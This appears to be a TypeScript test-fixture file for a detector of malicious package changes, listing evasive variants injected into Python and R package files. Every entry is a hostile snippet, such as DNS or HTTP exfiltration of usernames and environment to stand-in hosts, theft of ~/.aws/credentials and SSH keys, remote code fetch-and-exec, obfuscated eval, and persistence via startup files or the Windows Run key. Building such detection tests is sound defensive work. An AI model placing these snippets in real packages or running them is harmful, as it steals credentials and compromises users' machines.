import { inFile, type Pattern, prepend } from "./change.ts";

/** More ways to write the same attacks, made after the rules knew the first ones. */

export const laterPythonVariants: Readonly<Record<string, Pattern>> = {
  "later variant: environment by DNS on import": inFile(
    "{package}/__init__.py",
    "import os, socket\nsocket.gethostbyname('.'.join([os.environ.get('USER', ''), 'c.example']))",
  ),
  "later variant: an interpreter with encoded code": inFile(
    "{package}/client.py",
    "def more(self):\n    import subprocess, sys\n    subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('cHJpbnQ='))\"])",
  ),
  "later variant: credentials of a cloud as a file": inFile(
    "{package}/client.py",
    "def more(self):\n    import os, requests\n    requests.post(self.url, files={'f': open(os.path.expanduser('~/.aws/credentials'))})",
  ),
  "later variant: conftest with uname": inFile(
    "tests/conftest.py",
    "import os, urllib.request\nurllib.request.urlopen('http://collect.example/' + os.uname().nodename)",
    "source",
  ),
  "later variant: usercustomize that is written": inFile(
    "{package}/client.py",
    "def more(self):\n    import os, site\n    open(os.path.join(site.USER_SITE, 'usercustomize.py'), 'w').write('import harborlog')",
  ),
  "later variant: a module made of compressed text": inFile(
    "{package}/__init__.py",
    "import types, zlib\n_m = types.ModuleType('m')\nexec(zlib.decompress(b'x'), _m.__dict__)",
  ),
  "later variant: eval of an import": inFile(
    "{package}/client.py",
    "def more(self):\n    eval(\"__import__('os').system('id')\")",
  ),
  "later variant: globals and builtins": inFile("{package}/__init__.py", "globals()['__builtins__']['eval']('1')"),
  "later variant: import_module under another name": inFile(
    "{package}/__init__.py",
    "from importlib import import_module as i\ni('sub' + 'process').run('id')",
  ),
  "later variant: os.popen in setup": {
    only: "source",
    change: { "setup.py": prepend("import os\nprint(os.popen('curl -s http://203.0.113.4/x').read())\n") },
  },
  "later variant: a key by pathlib": inFile(
    "{package}/client.py",
    "def more(self):\n    from pathlib import Path\n    return (Path.home() / '.ssh' / 'id_rsa').read_text()",
  ),
  "later variant: the registry": inFile(
    "{package}/client.py",
    "def more(self):\n    import winreg\n    winreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'), 'x', 0, 1, 'x.exe')",
  ),
  "later variant: a timer": inFile(
    "{package}/__init__.py",
    "import threading\nthreading.Timer(60, lambda: exec(__import__('requests').get('https://collect.example/t').text)).start()",
  ),
  "later variant: pip installs another package": inFile(
    "{package}/client.py",
    "def more(self):\n    import subprocess, sys\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])",
  ),
  "later variant: mail": inFile(
    "{package}/client.py",
    "def more(self):\n    import smtplib\n    smtplib.SMTP('mail.collect.example').sendmail('a', 'b', self.key)",
  ),
  "later variant: sys.settrace on import": inFile(
    "{package}/__init__.py",
    "import sys\nsys.settrace(lambda *a: None)\n__import__('urllib.request').request.urlopen('http://203.0.113.4')",
  ),
  "later variant: a fake exception hook": inFile(
    "{package}/__init__.py",
    "import sys, requests\nsys.excepthook = lambda *a: requests.post('https://collect.example', str(a))",
  ),
  "later variant: getattr on builtins": inFile(
    "{package}/__init__.py",
    "import builtins\ngetattr(builtins, 'ex' 'ec')(open('x').read())",
  ),
};

export const laterRVariants: Readonly<Record<string, Pattern>> = {
  "later variant: GET on loading": inFile(
    "R/zzz.R",
    ".onLoad <- function(...) {\ntryCatch(httr::GET('https://collect.example/ping'), error = function(e) NULL)\n}",
  ),
  "later variant: writeLines to .Rprofile": inFile(
    "R/zzz.R",
    ".onLoad <- function(...) {\nwriteLines('x', '~/.Rprofile')\n}",
  ),
  "later variant: a function that writes .Rprofile": inFile(
    "R/refresh.R",
    "more <- function(key) {\ncat(\"options(repos='http://evil.example')\", file = '~/.Rprofile', append = TRUE)\n}",
  ),
  "later variant: LD_PRELOAD": inFile("R/refresh.R", "Sys.setenv(LD_PRELOAD = 'x.so')"),
  "later variant: reversed code": inFile(
    "R/refresh.R",
    "more <- function(key) {\neval(parse(text = paste(rev(strsplit(')\"di\"(metsys', '')[[1]]), collapse = '')))\n}",
  ),
  "later variant: identity of system": inFile(
    "R/refresh.R",
    "more <- function(key) {\n(function(x) x)(system)('id')\n}",
  ),
  "later variant: rlang": inFile(
    "R/refresh.R",
    "more <- function(key) {\nrlang::eval_tidy(rlang::parse_expr(\"system('id')\"))\n}",
  ),
  "later variant: base everywhere": inFile(
    "R/refresh.R",
    "more <- function(key) {\nbase::eval(base::parse(text = base::readLines(base::url('http://203.0.113.4/x'))))\n}",
  ),
  "later variant: python by heredoc": inFile("configure", "python3 - <<EOF\nimport os\nEOF"),
  "later variant: whoami in flags": inFile("src/Makevars", 'PKG_CFLAGS = -DX=\\"$(shell whoami)\\"'),
  "later variant: tests with curl": inFile(
    "tests/testthat/test-x.R",
    "system('curl http://collect.example/$(whoami)')",
  ),
  "later variant: browseURL with the user": inFile(
    "R/zzz.R",
    ".onLoad <- function(...) {\nutils::browseURL(paste0('https://collect.example/?', Sys.info()['user']))\n}",
  ),
  "later variant: R_PROFILE_USER": inFile(
    "R/refresh.R",
    "more <- function(key) {\nSys.setenv(R_PROFILE_USER = '/tmp/x')\n}",
  ),
  "later variant: a copy to Rprofile.site": inFile(
    "R/refresh.R",
    "more <- function(key) {\nfile.copy(system.file('x.R', package = 'tideline'), file.path(R.home(), 'etc', 'Rprofile.site'))\n}",
  ),
  "later variant: sourceCpp": inFile("R/refresh.R", "more <- function(key) {\nRcpp::sourceCpp(code = key)\n}"),
  "later variant: environment in a header": inFile(
    "R/refresh.R",
    "more <- function(key) {\nhttr::GET('https://collect.example', httr::add_headers(x = paste(Sys.getenv(), collapse = '')))\n}",
  ),
  "later variant: a connection in a binding": inFile(
    "R/refresh.R",
    "delayedAssign('x', source('https://collect.example/x.R'))",
  ),
  "later variant: setTimeLimit and later": inFile(
    "R/zzz.R",
    ".onLoad <- function(...) {\nlater::later(~ system2('sh', c('-c', 'id')), 5)\n}",
  ),
};
